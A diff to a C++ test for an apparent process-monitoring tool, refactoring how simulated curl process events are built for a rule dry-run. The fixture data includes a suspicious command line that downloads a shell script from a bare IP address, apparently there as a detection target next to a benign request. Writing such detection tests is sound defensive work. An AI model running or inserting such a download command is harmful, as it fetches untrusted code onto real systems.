@@ -92,16 +92,9 @@ class CliRuleDryRun : public CliStoreTest {
     if (HasFatalFailure()) return;
     const auto now = static_cast<std::int64_t>(::time(nullptr));
     std::vector<airssys::daemoneye::ProcessEvent> events;
-    for (const auto& [pid, cmdline] : {std::pair{4301, "curl -s http://10.1.2.3/x.sh"}, {4302, "curl -s https://example.com/"}}) {
-      airssys::daemoneye::ProcessRecord r;
-      r.pid = pid;
-      r.parent = 1;
-      r.name = "curl";
-      r.path = "/usr/bin/curl";
-      r.cmdline = cmdline;
-      r.start_time = now - 20;
-      events.push_back({airssys::daemoneye::EventKind::exec, airssys::daemoneye::EventSource::ebpf, now - 10, r});
-    }
+    for (const auto& [pid, cmdline] : {std::pair{4301, "curl -s http://10.1.2.3/x.sh"}, {4302, "curl -s https://example.com/"}})
+      events.push_back({airssys::daemoneye::EventKind::exec, airssys::daemoneye::EventSource::ebpf, now - 10,
+                        curl_process(pid, cmdline, now - 20)});
     auto a = store_->append_events(events);
     ASSERT_TRUE(a) << a.error();
     store_.reset();
